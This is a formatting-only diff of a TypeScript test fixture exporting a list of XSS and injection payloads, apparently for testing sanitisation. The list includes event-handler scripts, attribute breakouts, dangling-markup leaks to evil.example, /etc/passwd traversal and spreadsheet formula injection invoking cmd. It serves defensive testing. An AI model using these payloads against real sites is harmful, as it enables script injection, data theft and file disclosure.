@@ -1,5 +1,6 @@
 /**
- * What a page's title, a person's remark or an altered journal could hold to get a script to run, to leave the page, to load something, or to look like something else.
+ * What a page's title, a person's remark or an altered journal could hold to get a script to run, to leave the page, to
+ * load something, or to look like something else.
  * Whatever would run calls `ran`; whatever would load or lead away asks evil.example.
  */
 export const PAYLOADS: readonly string[] = [
@@ -72,7 +73,8 @@ export const PAYLOADS: readonly string[] = [
   '<svg><animate onbegin=ran() attributeName=x dur=1s>',
   '<svg><set attributeName=href onbegin=ran() to=x>',
   '<svg><a xlink:href=javascript:ran()><text y=9>x</text></a></svg>',
-  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><image href=x onerror=ran() /></svg>#x">',
+  "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x " +
+    'onerror=ran() /></svg>#x">',
   '<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>',
   '<svg><image href=//evil.example/svg.png>',
   '<svg></p><style><img src=x onerror=ran()></style>',
@@ -81,11 +83,11 @@ export const PAYLOADS: readonly string[] = [
   '<math><annotation-xml encoding="text/html"><img src=x onerror=ran()></annotation-xml></math>',
   // Ends of attributes.
   '"><script>ran()</script>',
-  '\'><script>ran()</script>',
+  "'><script>ran()</script>",
   '"><img src=x onerror=ran()>',
-  '\'><img src=x onerror=ran()>',
+  "'><img src=x onerror=ran()>",
   '" onfocus="ran()" autofocus x="',
-  '\' onfocus=\'ran()\' autofocus x=\'',
+  "' onfocus='ran()' autofocus x='",
   'x onfocus=ran() autofocus ',
   '` onfocus=ran() autofocus `',
   '" style="position:fixed;inset:0" onpointerover="ran()',
@@ -112,7 +114,7 @@ export const PAYLOADS: readonly string[] = [
   '<plaintext>',
   '<xmp><p title="</xmp><img src=x onerror=ran()>">',
   // Strings of scripts and of data.
-  '\';ran();//',
+  "';ran();//",
   '";ran();//',
   '\\";ran();//',
   '`;ran();//',
@@ -183,7 +185,7 @@ export const PAYLOADS: readonly string[] = [
   '<table background=//evil.example/table.png>',
   '<track src=//evil.example/track><bgsound src=//evil.example/sound>',
   // Markup that is left hanging.
-  '<img src=\'//evil.example/hanging?',
+  "<img src='//evil.example/hanging?",
   '<img src="//evil.example/hanging?',
   '<a href="//evil.example/hanging?',
   '<textarea>',
@@ -202,7 +204,7 @@ export const PAYLOADS: readonly string[] = [
   '../../../../etc/passwd',
   '..\\..\\windows\\win.ini',
   '=HYPERLINK("//evil.example/cell","x")',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '[x](javascript:ran())',
   '![x](//evil.example/markdown.png)',
   'x\n\n<img src=x onerror=ran()>\n',
